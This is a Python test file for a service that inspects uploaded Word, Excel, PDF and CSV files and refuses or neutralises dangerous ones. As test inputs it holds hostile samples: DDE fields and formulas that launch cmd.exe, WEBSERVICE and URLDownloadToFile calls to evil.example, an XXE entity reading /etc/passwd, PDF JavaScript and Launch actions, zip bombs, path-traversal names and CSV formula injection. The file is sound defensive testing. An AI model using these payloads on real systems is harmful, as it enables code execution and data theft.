"""Office documents, PDF and texts, as the child process judges them."""

import io
import struct
from zipfile import ZipFile

import pikepdf
import pytest

from app.files.inspection.unfit import Why
from tests.app.files.conftest import Found, Verdict
from tests.app.files.documents import (
    WORD,
    docx_with,
    field,
    object_stream,
    ordinary_docx,
    pdf,
    relation,
    xlsx_with,
    zipped,
)

MB = 1024 * 1024
W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
S = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
DDE = 'DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc"'
DDE_FIELD = f'<w:fldSimple xmlns:w="{W}" w:instr="DDEAUTO cmd"/>'
STRICT = {
    W.encode(): b"http://purl.oclc.org/ooxml/wordprocessingml/main",
    S.encode(): b"http://purl.oclc.org/ooxml/spreadsheetml/main",
}
OF_EXCEL = "http://schemas.microsoft.com/office/excel/2006/main"
OUTSIDE_RELATION = next(iter(relation("image", "http://evil.example/pixel.png").values()))


def docx_named(name: str, body: str) -> bytes:
    """A document whose main part has another name."""
    types = f'<Types><Override PartName="/{name}" ContentType="{WORD}"/></Types>'
    document = f'<w:document xmlns:w="{W}"><w:body>{body}</w:body></w:document>'
    return zipped({"[Content_Types].xml": types, name: document})


def xlsx_named(name: str, cells: str) -> bytes:
    """A workbook whose sheet has another name."""
    content = xlsx_with(cells)
    archive = ZipFile(io.BytesIO(content))
    parts: dict[str, str | bytes] = {one: archive.read(one) for one in archive.namelist()}
    parts[name] = parts.pop("xl/worksheets/sheet1.xml")
    return zipped(parts)


def packed_pdf(action: str, key: str) -> bytes:
    """A real PDF whose action lies in a stream of objects."""
    buffer = io.BytesIO()
    with pikepdf.new() as document:
        document.add_blank_page()
        facts = {key: pikepdf.String("x")} | ({"/S": pikepdf.Name(action)} if action else {})
        document.Root["/Later"] = document.make_indirect(pikepdf.Dictionary(facts))
        document.save(buffer, object_stream_mode=pikepdf.ObjectStreamMode.generate)
    return buffer.getvalue()


def strict(content: bytes) -> bytes:
    """Return a document as Office saves it when it is asked for its strict form."""
    with ZipFile(io.BytesIO(content)) as archive:
        parts: dict[str, str | bytes] = {name: archive.read(name) for name in archive.namelist()}
    for usual, other in STRICT.items():
        parts = {
            name: part.replace(usual, other) if isinstance(part, bytes) else part
            for name, part in parts.items()
        }
    return zipped(parts)


def test_an_ordinary_document_passes(verdict: Verdict) -> None:
    assert verdict(ordinary_docx(), "docx") is None
    assert (
        verdict(
            docx_with(
                field(" PAGE ")
                + field(' TOC \\o "1-3" ')
                + field('HYPERLINK "https://a.example/" \\l "x"'),
                {},
            ),
            "docx",
        )
        is None
    )
    assert verdict(docx_with(more=relation("hyperlink", "https://dealer.example/")), "docx") is None


@pytest.mark.parametrize(
    "template",
    ["file:///C:\\Users\\anna\\Templates\\Act.dotx", "C:/Templates/Act.dotm", "Normal.dotm"],
)
def test_a_document_with_a_template_of_its_company_is_kept_without_it(
    found: Found, template: str
) -> None:
    settings = (
        f'<w:settings xmlns:w="{W}" xmlns:r="{R}">'
        '<w:attachedTemplate r:id="r1"/><w:zoom w:percent="100"/></w:settings>'
    )
    more = relation("attachedTemplate", template)
    more["word/_rels/settings.xml.rels"] = more.pop("word/_rels/document.xml.rels")
    content = docx_with("<w:p/>", more | {"word/settings.xml": settings})

    look = found(content, "docx")

    assert look.is_replaced
    assert look.shown is not None
    parts = ZipFile(io.BytesIO(look.shown))
    assert b"Act.dot" not in b"".join(parts.read(name) for name in parts.namelist())
    assert b"attachedTemplate" not in parts.read("word/settings.xml")
    assert b"zoom" in parts.read("word/settings.xml")
    assert parts.read("word/document.xml") == ZipFile(io.BytesIO(content)).read("word/document.xml")
    assert not found(look.shown, "docx").is_replaced


def test_an_ordinary_workbook_passes(verdict: Verdict) -> None:
    assert verdict(xlsx_with('<c r="A1"><f>SUM(A2:A9)</f><v>1</v></c>'), "xlsx") is None


@pytest.mark.parametrize(
    ("content", "why"),
    [
        (docx_with(more={"word/vbaProject.bin": b"x"}), Why.ACTIVE_CONTENT),
        (
            docx_with(kind="application/vnd.ms-word.document.macroEnabled.main+xml"),
            Why.ACTIVE_CONTENT,
        ),
        (docx_with(more={"word/activeX/activeX1.xml": "<a/>"}), Why.ACTIVE_CONTENT),
        (docx_with(more=relation("attachedTemplate", "http://evil.example/a")), Why.OUTSIDE_LINK),
        (docx_with(more={"word/embeddings/oleObject1.bin": b"x"}), Why.EMBEDDED_FILE),
        (docx_with(more={"word/embeddings/book.xlsx": b"x"}), Why.EMBEDDED_FILE),
        (docx_with(more={"word/afchunk.html": b"<p>"}), Why.EMBEDDED_FILE),
        (docx_with(more=relation("image", "http://evil.example/pixel.png")), Why.OUTSIDE_LINK),
        (docx_with(more=relation("image", "\\\\evil.example\\a", "external")), Why.OUTSIDE_LINK),
        (docx_with(more=relation("hyperlink", "file:///c:/windows/calc.exe")), Why.OUTSIDE_LINK),
        (docx_with(more=relation("hyperlink", "javascript:alert(1)")), Why.OUTSIDE_LINK),
        (docx_with(field(DDE)), Why.OUTSIDE_LINK),
        (docx_with(field("D", "DEA", "UTO cmd")), Why.OUTSIDE_LINK),
        (docx_with(field(" dde excel ")), Why.OUTSIDE_LINK),
        (docx_with(field(field("QUOTE 68 68 69"), " c:\\cmd ")), Why.OUTSIDE_LINK),
        (docx_with(field('HYPERLINK "\\\\\\\\evil.example\\\\a"')), Why.OUTSIDE_LINK),
        (docx_with(field('HYPERLINK "file:///c:/calc.exe"')), Why.OUTSIDE_LINK),
        (docx_with(field(DDE, closed=False)), Why.OUTSIDE_LINK),
        (docx_with('<w:p><w:fldSimple w:instr="INCLUDETEXT x"/></w:p>'), Why.OUTSIDE_LINK),
        (docx_with(field('INCLUDEPICTURE "http://evil.example/"')), Why.OUTSIDE_LINK),
        (docx_with(field("DDE<!-- -->AUTO cmd")), Why.OUTSIDE_LINK),
        (strict(docx_with(field(DDE))), Why.OUTSIDE_LINK),
        (strict(docx_with('<w:p><w:fldSimple w:instr="DDE x"/></w:p>')), Why.OUTSIDE_LINK),
        (docx_named("word/document.dat", field(DDE)), Why.OUTSIDE_LINK),
        (docx_named("WORD/Document.XML", field(DDE)), Why.OUTSIDE_LINK),
        (docx_with(more={"word/media/image1.png": f"<x>{DDE_FIELD}</x>"}), Why.OUTSIDE_LINK),
        (
            docx_with(more={"word/_rels/document.xml.RELS": OUTSIDE_RELATION}),
            Why.OUTSIDE_LINK,
        ),
        (docx_with(more={"word/media/image1.png": b"PK\x03\x04"}), Why.EMBEDDED_FILE),
        (docx_with(more={"word/media/image1.png": b"MZ\x90"}), Why.EMBEDDED_FILE),
        (
            docx_with(more=relation("attachedTemplate", "\\\\evil.example\\a.dotm")),
            Why.OUTSIDE_LINK,
        ),
        (
            docx_with(more=relation("attachedTemplate", "file://evil.example/a.dotm")),
            Why.OUTSIDE_LINK,
        ),
        (zipped({"[Content_Types].xml": "<Types/>"}), Why.OTHER_CONTENT),
        (zipped({"hello.txt": "a zip under another name"}), Why.OTHER_CONTENT),
        (xlsx_with(), Why.OTHER_CONTENT),
    ],
)
def test_a_document_that_runs_or_fetches_or_hides_something_is_refused(
    verdict: Verdict, content: bytes, why: Why
) -> None:
    assert verdict(content, "docx") is why


@pytest.mark.parametrize(
    ("content", "why"),
    [
        (xlsx_with("<c><f>cmd|'/C calc'!A0</f></c>"), Why.OUTSIDE_LINK),
        (xlsx_with("<c><f>MSEXCEL|'\\..\\cmd.exe /c calc'!A1</f></c>"), Why.OUTSIDE_LINK),
        *(
            (xlsx_with(f"<c><f>{formula}</f></c>"), Why.OUTSIDE_LINK)
            for formula in (
                'WEBSERVICE("http://evil.example/"&amp;A1)',
                '_xlfn.WEBSERVICE("http://evil.example")',
                '_xlfn.IMAGE("http://evil.example/a.png")',
                'SUM(A1, image ("http://evil.example/a.png"))',
                'RTD("evil.server",,"topic")',
                'CALL("urlmon","URLDownloadToFileA","JJCCJJ")',
                "'\\\\evil.example\\[a.xlsx]Sheet1'!A1",
                "'http://evil.example/[a.xlsx]Sheet1'!A1",
                'HYPERLINK("\\\\evil.example\\a")',
                'IMPORTDATA("http://evil.example")',
                'WEB<!-- -->SERVICE("http://evil.example")',
                'WEB<?p?>SERVICE("http://evil.example")',
            )
        ),
        (
            xlsx_named("xl/worksheets/sheet1.dat", '<c><f>WEBSERVICE("http://e")</f></c>'),
            Why.OUTSIDE_LINK,
        ),
        (
            xlsx_with(more={"xl/x.bin1": '<a xmlns="x"/>', "xl/_rels/a.RELS": OUTSIDE_RELATION}),
            Why.OUTSIDE_LINK,
        ),
        (strict(xlsx_with('<c><f>WEBSERVICE("http://e")</f></c>')), Why.OUTSIDE_LINK),
        (
            xlsx_with(f'<x:f xmlns:x="{OF_EXCEL}">WEBSERVICE("http://e")</x:f>'),
            Why.OUTSIDE_LINK,
        ),
        (xlsx_with(more={"xl/externalLinks/externalLink1.xml": "<a/>"}), Why.OUTSIDE_LINK),
        (xlsx_with(more={"xl/connections.xml": "<a/>"}), Why.OUTSIDE_LINK),
        (xlsx_with(more={"xl/vbaProject.bin": b"x"}), Why.ACTIVE_CONTENT),
        (xlsx_with(more={"xl/macrosheets/sheet1.xml": "<a/>"}), Why.ACTIVE_CONTENT),
        (xlsx_with("<c/>" * 200_001), Why.TOO_MANY_CELLS),
    ],
)
def test_a_workbook_that_runs_or_fetches_or_floods_is_refused(
    verdict: Verdict, content: bytes, why: Why
) -> None:
    assert verdict(content, "xlsx") is why


@pytest.mark.parametrize(
    "part",
    [
        '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>',
        '<?xml version="1.0" encoding="UTF-7"?><a/>',
        '<?xml version="1.0"?><a/>'.encode("utf-16"),
    ],
)
def test_xml_with_a_dtd_or_a_strange_encoding_is_refused(
    verdict: Verdict, part: str | bytes
) -> None:
    assert verdict(docx_with(more={"word/styles.xml": part}), "docx") is Why.ODD_ARCHIVE


def test_broken_xml_is_damaged(verdict: Verdict) -> None:
    assert verdict(docx_with("<w:p>"), "docx") is Why.DAMAGED


def test_a_bomb_that_tells_its_size_is_not_unpacked(verdict: Verdict) -> None:
    bomb = docx_with(more={"word/huge.xml": bytes(31 * MB)})

    assert len(bomb) < MB
    assert verdict(bomb, "docx") is Why.UNPACKS_TOO_LARGE


def test_many_middling_entries_are_a_bomb_too(verdict: Verdict) -> None:
    bomb = docx_with(more={f"word/{number}.xml": bytes(26 * MB) for number in range(4)})

    assert verdict(bomb, "docx") is Why.UNPACKS_TOO_LARGE


def test_a_steep_entry_below_the_limit_is_a_bomb(verdict: Verdict) -> None:
    assert verdict(docx_with(more={"word/a.xml": bytes(5 * MB)}), "docx") is Why.UNPACKS_TOO_LARGE


def test_a_bomb_that_lies_about_its_size_is_found_while_unpacking(verdict: Verdict) -> None:
    honest = docx_with(more={"word/huge.xml": bytes(31 * MB)})
    lying = honest.replace(struct.pack("<L", 31 * MB), struct.pack("<L", 1000))
    assert lying != honest

    assert verdict(lying, "docx") is Why.ODD_ARCHIVE


def test_too_many_entries_are_refused(verdict: Verdict) -> None:
    crowd = docx_with(more={f"word/{number}.xml": "<a/>" for number in range(2_000)})

    assert verdict(crowd, "docx") is Why.ODD_ARCHIVE


@pytest.mark.parametrize("name", ["../evil.xml", "/evil.xml", "word//a.xml", "a\\b.xml", "c:a.xml"])
def test_entries_that_would_leave_their_folder_are_refused(verdict: Verdict, name: str) -> None:
    assert verdict(docx_with(more={name: "<a/>"}), "docx") is Why.ODD_ARCHIVE


def test_two_views_of_one_archive_are_refused(verdict: Verdict) -> None:
    content = ordinary_docx()
    local_name = content.replace(b"word/document.xml", b"word/d0cument.xml", 1)

    assert local_name != content
    assert verdict(local_name, "docx") is Why.ODD_ARCHIVE


@pytest.mark.parametrize(
    "content",
    [
        ordinary_docx() + b"appended",
        b"MZ prefixed" + ordinary_docx(),
        ordinary_docx()[:-2] + b"\x05\x00hello",
    ],
    ids=["behind", "before", "comment"],
)
def test_nothing_lies_before_or_behind_an_archive(verdict: Verdict, content: bytes) -> None:
    assert verdict(content, "docx") is Why.ODD_ARCHIVE


def test_a_document_cut_short_is_damaged(verdict: Verdict) -> None:
    assert verdict(ordinary_docx()[:-500], "docx") is Why.DAMAGED


def test_a_document_with_a_flipped_bit_is_damaged(verdict: Verdict) -> None:
    content = bytearray(docx_with(more={"word/media/photo.xyz": bytes(range(256)) * 20}))
    content[content.index(b"word/media/photo.xyz") + 60] ^= 1

    assert verdict(bytes(content), "docx") in {Why.DAMAGED, Why.ODD_ARCHIVE}


def test_an_ordinary_pdf_passes(verdict: Verdict) -> None:
    names = b"<< /Names /AAPL /JSomething /OpenAction [10 0 R /Fit] >>"
    assert verdict(pdf(b"4 0 obj\n" + names + b"\nendobj\n", pages=200), "pdf") is None


@pytest.mark.parametrize(
    ("content", "why"),
    [
        (pdf(b"4 0 obj\n<< /S /JavaScript /JS (app.alert(1)) >>\nendobj\n"), Why.ACTIVE_CONTENT),
        (pdf(b"4 0 obj\n<< /S /J#61vaScript >>\nendobj\n"), Why.ACTIVE_CONTENT),
        (pdf(b"4 0 obj\n<< /JS 5 0 R >>\nendobj\n"), Why.ACTIVE_CONTENT),
        (pdf(b"4 0 obj\n<< /S /Launch /F (cmd.exe) >>\nendobj\n"), Why.ACTIVE_CONTENT),
        (pdf(b"4 0 obj\n<< /AA << /O 5 0 R >> >>\nendobj\n"), Why.ACTIVE_CONTENT),
        (pdf(b"4 0 obj\n<< /XFA 5 0 R >>\nendobj\n"), Why.ACTIVE_CONTENT),
        (pdf(b"4 0 obj\n<< /OpenAction << /S /URI /URI (http://x) >> >>\n"), Why.ACTIVE_CONTENT),
        (pdf(object_stream(b"4 0 << /S /JavaScript >>")), Why.ACTIVE_CONTENT),
        (
            pdf(object_stream(b"4 0 << /JS (x) >>", b"/Type 9 0 R /Filter [/Fl]")),
            Why.ACTIVE_CONTENT,
        ),
        (
            pdf(object_stream(b"4 0 << /S /JavaScript >>", b"/Type /ObjStm /X(obj) /Filter /Fl")),
            Why.ACTIVE_CONTENT,
        ),
        (
            pdf(object_stream(b"4 0 << /JS (x) >>", b"/X(endobj stream\n) /Filter /FlateDecode")),
            Why.ACTIVE_CONTENT,
        ),
        (packed_pdf("/JavaScript", "/JS"), Why.ACTIVE_CONTENT),
        (packed_pdf("/Launch", "/F"), Why.ACTIVE_CONTENT),
        (packed_pdf("/GoToR", "/F"), Why.OUTSIDE_LINK),
        (packed_pdf("/GoToE", "/F"), Why.EMBEDDED_FILE),
        (packed_pdf("", "/AA"), Why.ACTIVE_CONTENT),
        (pdf(b"% >>\nstream\n4 0 obj << /S /Launch >>\nendstream\n"), Why.ACTIVE_CONTENT),
        (pdf(b"4 0 obj\n<< /Type /EmbeddedFile >>\nendobj\n"), Why.EMBEDDED_FILE),
        (pdf(b"4 0 obj\n<< /Subtype /FileAttachment >>\nendobj\n"), Why.EMBEDDED_FILE),
        (pdf(trailer=b"/Encrypt 9 0 R"), Why.LOCKED),
        (pdf(pages=201), Why.TOO_MANY_PAGES),
        (pdf(pages=0), Why.DAMAGED),
        (pdf()[:-8], Why.DAMAGED),
        (pdf() + bytes(2000), Why.DAMAGED),
        (pdf(b"4 0 obj\n" * 100_001), Why.TOO_MUCH_WORK),
        (pdf(object_stream(b"x", b"/Filter [/ASCIIHexDecode /FlateDecode]")), Why.TOO_MUCH_WORK),
        (pdf(object_stream(bytes(31 * MB), b"/Filter /FlateDecode")), Why.UNPACKS_TOO_LARGE),
    ],
)
def test_a_pdf_that_runs_or_hides_or_floods_is_refused(
    verdict: Verdict, content: bytes, why: Why
) -> None:
    assert verdict(content, "pdf") is why


@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "utf-16", "cp1251"])
@pytest.mark.parametrize("code", ["csv", "txt"])
def test_texts_pass_in_the_encodings_of_the_field(
    verdict: Verdict, code: str, encoding: str
) -> None:
    text = 'Артикул;Описание\r\nDV-900;"Скол, край"\r\n'

    assert verdict(text.encode(encoding), code) is None


@pytest.mark.parametrize("code", ["csv", "txt"])
@pytest.mark.parametrize(
    ("content", "why"),
    [
        (b"a;b\n1;\x00\n", Why.NOT_TEXT),
        (b"a;b\n1;\x1b[31m\n", Why.NOT_TEXT),
        (b"MZ\x90\x00\x03", Why.NOT_TEXT),
        (b"\xff\xfea", Why.NOT_TEXT),
        (b"\x98\x98 neither UTF-8 nor cp1251", Why.NOT_TEXT),
        (b"1\n" * 100_001, Why.TOO_MANY_ROWS),
        (b"a;b\n" + b"x" * 33_000 + b";1\n", Why.TOO_LONG_CELL),
    ],
)
def test_a_text_that_is_none_or_floods_is_refused(
    verdict: Verdict, code: str, content: bytes, why: Why
) -> None:
    assert verdict(content, code) is why


def test_formulas_of_a_table_are_shown_as_text_and_marked(found: Found) -> None:
    table = (
        "sku;count;note\r\n"
        "=HYPERLINK(A1);-5;+7 (912) 000-00-00\r\n"
        "\"=cmd|'/C calc'!A1\";2;@SUM(1)\r\n"
        "a,=1+1;+A1;-2,5\r\n"
    )

    look = found(table.encode(), "csv")

    assert look.change == "formulas_as_text"
    assert look.shown is not None
    assert look.shown.decode("utf-8-sig") == (
        "sku;count;note\r\n"
        "'=HYPERLINK(A1);-5;+7 (912) 000-00-00\r\n"
        "\"'=cmd|'/C calc'!A1\";2;'@SUM(1)\r\n"
        "a,'=1+1;'+A1;-2,5\r\n"
    )


def test_a_line_of_a_table_may_end_as_on_an_old_apple(found: Found) -> None:
    look = found(b"a;b\r=1+1;-5\r", "csv")

    assert (look.change, look.shown) == ("formulas_as_text", b"\xef\xbb\xbfa;b\r'=1+1;-5\r")


def test_a_table_without_formulas_is_shown_as_it_is(found: Found) -> None:
    look = found(b"a;b\n-1;+7 912\n-;x=y\n", "csv")

    assert (look.change, look.shown) == (None, None)
